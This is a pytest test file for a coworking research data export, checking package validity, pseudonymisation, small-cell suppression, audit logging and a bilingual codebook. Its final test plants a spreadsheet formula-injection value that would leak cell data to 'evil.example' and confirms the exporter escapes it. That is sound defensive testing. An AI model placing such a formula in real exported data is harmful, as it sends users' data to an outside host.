"""The data package: written from the command line, valid as a Frictionless Data Package,
with nothing in any file that names a member or gives an exact time."""
import csv
import io
import re
import zipfile
from datetime import date

import pytest
from frictionless import validate
from sqlalchemy import select

from coworking.audit import AuditEntry
from coworking.extensions import db
from coworking.research.records import pseudonym
from coworking.research.service import export

FILES = {"datapackage.json", "codebook.md", "spaces.csv", "space_metrics.csv", "presence.csv",
         "visits.csv", "profiles.csv", "commute.csv", "event_reach.csv"}


def package(app, key="first key", first=date(2027, 3, 1), last=date(2027, 3, 31)):
    app.config["RESEARCH_KEY"] = key
    return zipfile.ZipFile(io.BytesIO(b"".join(export(None, first, last, via="test"))))


def table(archive, name):
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


@pytest.fixture
def exported(app, runner, dst_week, tmp_path):
    app.config["RESEARCH_MIN_CELL"] = 1
    path = tmp_path / "research.zip"
    result = runner.invoke(args=["research", "export", "--from", "2027-03-01", "--to",
                                 "2027-03-31", "--out", str(path)])
    assert result.exit_code == 0, result.output
    assert "wrote" in result.output
    return zipfile.ZipFile(path)


def test_the_command_writes_a_valid_data_package(exported, tmp_path):
    assert set(exported.namelist()) == FILES
    exported.extractall(tmp_path / "package")
    report = validate(str(tmp_path / "package" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_the_export_is_in_the_audit_log(exported):
    entry = db.session.scalars(select(AuditEntry)
                               .where(AuditEntry.action == "research.exported")).one()
    assert entry.actor_id is None
    assert entry.after == {"from": "2027-03-01", "to": "2027-03-31", "via": "cli"}


def test_no_file_names_a_member_or_gives_an_exact_time(exported, dst_week):
    people = dst_week.members.values()
    for name in exported.namelist():
        text = exported.read(name).decode()
        for person in people:
            assert person.email not in text and person.name not in text, name
            assert "Number" not in text, name
        assert "@" not in text, name
        assert not re.search(r"\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}", text), name
        assert not re.search(r"\d{2}:\d{2}:\d{2}", text), name


def test_visit_records_only_of_members_who_consent_but_everyone_counts(exported, dst_week,
                                                                        app):
    visits = table(exported, "visits.csv")
    u1 = pseudonym(dst_week.members[1].id, app.config["RESEARCH_KEY"])
    assert visits == [
        {"pseudonym": u1, "space": "pendlerhafen", "date": "2027-03-22", "start_hour": "9",
         "duration_quarters": "8", "kind": "booked"},
        {"pseudonym": u1, "space": "pendlerhafen", "date": "2027-03-29", "start_hour": "0",
         "duration_quarters": "4", "kind": "walk_in"},
    ]
    month = next(row for row in table(exported, "space_metrics.csv")
                 if row["granularity"] == "month")
    # u2 withdrew, u4 never consented: their visits count all the same.
    assert (month["visits"], month["unique_members"]) == ("5", "4")


def test_pseudonyms_are_stable_for_one_key_and_differ_for_another(app, dst_week):
    app.config["RESEARCH_MIN_CELL"] = 1
    first = {row["pseudonym"] for row in table(package(app), "visits.csv")}
    again = {row["pseudonym"] for row in table(package(app), "visits.csv")}
    other = {row["pseudonym"] for row in table(package(app, key="other key"), "visits.csv")}
    assert first == again and len(first) == 1
    assert other and other.isdisjoint(first)
    assert len(next(iter(first))) == 64


def test_profiles_and_commute_per_town(exported):
    profiles = table(exported, "profiles.csv")
    assert {(r["question"], r["answer"], r["members"]) for r in profiles} == {
        ("work_mode", "commute", "1"), ("commute_km_band", "10-25", "1"),
        ("employment", "commuter", "1"), ("residence", "town", "1")}
    (commute,) = table(exported, "commute.csv")
    # Two visits of u1, 10–25 km one way: 2 × 17.5 km each.
    assert (commute["month"], commute["visits"], commute["km_avoided"], commute["kg_co2e"]) == \
        ("2027-03", "2", "70.0", "11.6")


def test_profile_answers_of_fewer_than_k_members_are_suppressed(app, dst_week):
    app.config["RESEARCH_MIN_CELL"] = 2
    archive = package(app)
    assert all(row["suppressed"] == "true" and row["members"] == ""
               for row in table(archive, "profiles.csv"))
    assert all(row["suppressed"] == "true" and row["km_avoided"] == ""
               for row in table(archive, "commute.csv"))


def test_the_codebook_speaks_german_and_english(exported):
    codebook = exported.read("codebook.md").decode()
    assert "# Codebuch" in codebook and "# Codebook" in codebook
    assert "Umweltbundesamt" in codebook and "0.166" in codebook
    for column in ("occupancy_rate", "median_visit_hours", "duration_quarters"):
        assert codebook.count(f"| {column} |") == 2


def test_the_codebook_quotes_each_question_and_every_answer_in_both_languages(exported):
    codebook = exported.read("codebook.md").decode()
    german, english = codebook.split("# Codebook: ")
    for part in (german, english):
        # The wording members saw on the account page, in German and in English.
        assert "„Ohne den Coworking-Space würde ich arbeiten …“" in part
        assert "“Without the coworking space I would work …”" in part
        assert "„Ich wohne …“" in part and "“I live …”" in part
        assert "| 25-50 | 25 bis 50 km | 25 to 50 km |" in part
        assert "| founder | Gründer*in | Founder |" in part
        assert part.count("| no_answer | Keine Angabe | No answer |") == 4
        # `other` once per question, whether the form offers it or not.
        questions = part.split("### ")[1:]
        assert len(questions) == 4
        for question in questions:
            assert len(re.findall(r"^\| other \|", question, re.M)) == 1, question
        assert "| other | Sonstiges; " in part


def test_zero_member_days_are_zeros_not_suppressed(app, dst_week):
    app.config["RESEARCH_MIN_CELL"] = 2
    archive = package(app)
    rows = {(r["granularity"], r["period_start"]): r for r in table(archive, "space_metrics.csv")}
    # Sunday the 28th: nobody came or booked. The 27th rests on u4 alone: withheld.
    nobody, alone = rows[("day", "2027-03-28")], rows[("day", "2027-03-27")]
    assert (nobody["suppressed"], nobody["visits"], nobody["unique_members"]) == \
        ("false", "0", "0")
    assert (alone["suppressed"], alone["visits"]) == ("true", "")
    assert all(row["suppressed"] == "false" for row in rows.values()
               if row["unique_members"] == "0")
    codebook = archive.read("codebook.md").decode()
    assert "## Unterdrückt oder nichts geschehen" in codebook
    assert "## Suppressed or nothing happened" in codebook


def test_the_command_refuses_a_range_backwards(runner, app):
    result = runner.invoke(args=["research", "export", "--from", "2027-03-31", "--to",
                                 "2027-03-01", "--out", "/tmp/never.zip"])
    assert result.exit_code != 0 and "to:" in result.output


def test_memory_stays_flat_while_visits_stream(app, dst_week):
    """The zip leaves in pieces: a consumer sees bytes before the last visit is read."""
    app.config["RESEARCH_MIN_CELL"] = 1
    chunks = export(None, date(2027, 3, 1), date(2027, 3, 31), via="test")
    assert len([chunk for chunk in chunks if chunk]) >= 2


def test_a_programme_without_spaces_exports_an_empty_package(app, tmp_path):
    archive = package(app)
    assert set(archive.namelist()) == FILES
    assert table(archive, "space_metrics.csv") == []


def test_text_a_spreadsheet_would_run_is_escaped_and_the_package_stays_valid(app, dst_week,
                                                                          tmp_path):
    app.config["RESEARCH_MIN_CELL"] = 1
    space, town = dst_week.space, dst_week.space.town
    space.name = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")'
    town.name, town.town_type, town.location_type = "@Mölln", "+1", "-peripher"
    town.population = 18000
    db.session.commit()
    archive = package(app)
    (row,) = table(archive, "spaces.csv")
    assert row["name"] == "'" + space.name
    assert (row["town"], row["town_type"], row["location_type"]) == \
        ("'@Mölln", "'+1", "'-peripher")
    assert (row["population"], row["desks"]) == ("18000", "2")  # numbers stay numbers
    assert "'=HYPERLINK" in archive.read("spaces.csv").decode()
    assert "Text cells that begin with an equals" in archive.read("codebook.md").decode()
    archive.extractall(tmp_path / "package")
    report = validate(str(tmp_path / "package" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
